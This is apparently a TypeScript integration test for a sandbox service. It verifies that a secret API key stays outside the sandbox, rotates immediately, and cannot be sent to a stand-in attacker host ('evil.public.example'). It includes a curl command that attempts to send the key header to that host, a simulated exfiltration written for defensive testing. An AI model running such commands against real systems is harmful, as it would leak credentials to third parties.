import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { Client, Events, Sandbox } from '@svc/sdk';
import { waitUntil } from '@svc/contract/testing';
import { CLASSES } from '../engine/sandbox-fixture.ts';
import { startWeb, svc as run, WITH_CURL, type Web } from './web-fixture.ts';

const [API, EVIL] = ['api.public.example', 'evil.public.example'];
const [VALUE, NEXT_VALUE] = ['sk-live-4711-real', 'sk-live-0815-next'];

const undo = new AsyncDisposableStack();
let web: Web;
let client: Client;
let authority = '';

before(async () => {
  web = await startWeb(undo);
  client = new Client({ apiUrl: web.server.url });
  authority = join(web.server.engine.folder, 'authority.pem');
  await writeFile(authority, web.certificate);
});
after(() => undo.disposeAsync());

const svc = (input: string, ...parameters: readonly string[]) => run(web.server, input, ...parameters);

for (const isolation of CLASSES)
  test(`svc run --secret on class ${isolation}: the host has the value, the sandbox never, and a new one at once`, async () => {
    const name = `with-secret-${isolation}`;
    const { said } = web;
    said.length = 0;
    const set = (value: string, host: string) =>
      svc(`${value}\n`, 'secret', 'set', 'API_KEY', '--host', host, '--ca', authority);
    assert.equal((await set(VALUE, API)).code, 0);
    const secret = `API_KEY@${API}`;
    const made = await svc(
      '',
      'run',
      '-d',
      '--name',
      name,
      '--isolation',
      isolation,
      '--secret',
      secret,
      WITH_CURL,
      'sleep',
      '600',
    );
    assert.equal(made.code, 0, made.complaint);
    const sandbox = await Sandbox.connect(name, { client });
    await sandbox.network.update({ tls: { upstream_ca_cert: [web.certificate] } });
    const ask = (host: string) =>
      svc('', 'exec', name, 'sh', '-c', `curl -sS -m 20 -H "X-Key: $API_KEY" https://${host}/`);
    const first = await ask(API);
    assert.equal(first.code, 0, first.complaint);
    assert.ok(
      said.some((request) => request.startsWith(API) && request.includes(VALUE)),
      said.join('\n'),
    );
    assert.equal((await svc('', 'exec', name, 'sh', '-c', 'echo "$API_KEY"')).output, '$SVC_API_KEY');
    await set(NEXT_VALUE, API);
    await waitUntil(async () => {
      await ask(API);
      return said.some((request) => request.includes(NEXT_VALUE));
    });
    const stolen = await svc('', 'net', 'set', name, '--secret', `API_KEY@${EVIL}`);
    assert.match(stolen.complaint, /allowed_hosts/);
    assert.notEqual((await ask(EVIL)).code, 0);
    await set(NEXT_VALUE, 'elsewhere.public.example');
    await waitUntil(async () => (await ask(API)).code !== 0, { what: 'the host is no longer one of its' });
    assert.ok(!said.some((request) => request.startsWith(EVIL)), said.join('\n'));
    await waitUntil(async () => {
      for await (const { payload } of Events.list({ client, type: 'secret_violation' }))
        if (JSON.stringify(payload).includes(name)) return true;
      return false;
    });
    const shown = await svc('', 'inspect', name);
    assert.ok(!`${shown.output}${shown.complaint}`.includes('sk-live'));
    await svc('', 'rm', '-f', name);
  });
